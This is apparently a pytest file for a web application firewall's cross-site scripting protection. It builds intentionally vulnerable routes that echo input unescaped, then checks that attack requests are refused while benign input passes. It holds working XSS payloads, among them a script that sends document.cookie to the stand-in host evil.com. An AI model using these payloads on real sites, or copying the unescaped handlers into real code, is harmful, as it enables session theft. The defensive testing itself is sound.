"""What a request has brought is carried out by the page that answers it (guide:
"Cross-Site Scripting"; CWE-79, CWE-83, CWE-87)."""

import json

import httpx2
import pytest
from examples.range.targets import markup
from starlette.middleware import Middleware
from starlette.middleware.gzip import GZipMiddleware
from starlette.responses import HTMLResponse
from starlette.routing import Mount, Route
from tests.attacks.ledgers import settled
from tests.attacks.targets import routes_of
from tests.attacks.twins import twins

# The guide's own payload.
STEAL = '<script>fetch("https://evil.com/steal?cookie=" + document.cookie)</script>'
QUOTE = '" onfocus="alert(document.cookie)" autofocus x="'
LITERAL = "';alert(document.cookie)//"
ADDRESS = "javascript:alert(document.cookie)"
SVG = "</text><script>alert(document.cookie)</script><text>"

REFLECTED = [
    ("/greet", "name", STEAL, STEAL),
    ("/greet", "name", "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
    ("/field", "value", QUOTE, QUOTE),
    ("/link", "to", ADDRESS, ADDRESS),
    ("/script", "name", LITERAL, LITERAL),
    ("/badge.svg", "label", SVG, SVG),
    ("/packed", "name", STEAL, STEAL),
    ("/report", "name", STEAL, STEAL),
    ("/packed-by-middleware", "name", STEAL, STEAL),
    ("/posted", "name", STEAL, STEAL),
]
HONEST = ["O'Brien", "I <3 you", "a < b & c", "日本語", "<b>bold</b>", "f(x) = 2"]


async def greet(request):
    """Long enough that middleware packs it."""
    name = request.query_params["name"]
    return HTMLResponse(f"<p>{'Hello ' * 200}{name}</p>")


async def posted(request):
    async with request.form() as form:
        return HTMLResponse(f"<p>{form['name']}</p>")


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    return tmp_path_factory.mktemp("markup")


@pytest.fixture(scope="module")
def sides(folder):
    targets = routes_of(markup.TARGETS, folder / "world")

    def make():
        routes = [
            Mount(
                "/packed-by-middleware",
                routes=[Route("/", greet)],
                middleware=[Middleware(GZipMiddleware)],
            ),
            Route("/posted", posted, methods=["POST"]),
        ]
        return [*routes, *targets()]

    with twins(make, folder / "data") as both:
        yield both


def ask(client, path, name, value):
    if path == "/posted":
        return client.post(path, data={name: value})
    return client.get(path, params={name: value}, follow_redirects=True)


@pytest.mark.parametrize(("path", "name", "payload", "trace"), REFLECTED)
def test_a_reflected_script_does_not_leave(sides, path, name, payload, trace):
    """Off, the page carries it out; on, a refusal leaves in the page's place."""
    assert trace in ask(sides.off, path, name, payload).text
    answer = ask(sides.on, path, name, payload)
    assert answer.status_code == 403
    assert answer.json()["code"] == "interpreters.html"
    assert trace not in answer.text
    assert "content-encoding" not in answer.headers


@pytest.mark.parametrize("path", ["/greet", "/packed", "/packed-by-middleware"])
@pytest.mark.parametrize("name", HONEST)
def test_honest_names_are_greeted(sides, path, name):
    """As before, byte by byte."""
    was = ask(sides.off, path, "name", name)
    is_now = ask(sides.on, path, "name", name)
    assert is_now.status_code == 200
    assert is_now.content == was.content
    assert is_now.headers.get("content-encoding") == was.headers.get("content-encoding")


def test_a_stream_is_cut(sides):
    """Before the piece that would make the script whole."""
    assert STEAL in ask(sides.off, "/stream", "name", STEAL).text
    with sides.on.stream("GET", "/stream", params={"name": STEAL}) as answer:
        assert answer.status_code == 200
        pieces = answer.iter_bytes()
        got = [next(pieces)]
        with pytest.raises(httpx2.RemoteProtocolError):
            got.extend(pieces)
    assert b"Hello" in got[0]
    assert b"</script" not in b"".join(got)
    honest = ask(sides.on, "/stream", "name", "I <3 <b>you</b>")
    assert "I <3 <b>you</b>" in honest.text


def test_what_was_stored_is_not_seen_here(sides):
    """The page that shows it brings nothing: escaping and the policy of the page stand
    there, as the browser tests show. The request that brings it is not refused."""
    for side in (sides.off, sides.on):
        assert side.post("/comments", json={"text": STEAL}).is_redirect
        answer = side.get("/comments")
        assert STEAL in answer.text
        policy = answer.headers.get("content-security-policy", "")
        assert ("script-src 'self'" in policy) is (side is sides.on)


def test_the_ledger_knows_where_it_came_from(sides, folder):
    """Which field it was, and not what stood in it."""
    refusal = ask(sides.on, "/greet", "name", STEAL)
    (event,) = (
        event
        for event in settled(folder / "data", sides.on)
        if event["event"] == "malicious_injection"
        and event["request_id"] == refusal.headers["x-request-id"]
    )
    assert event["route"] == "/greet"
    assert (event["place"], event["field"]) == ("query", "name")
    assert "evil.com" not in json.dumps(event)
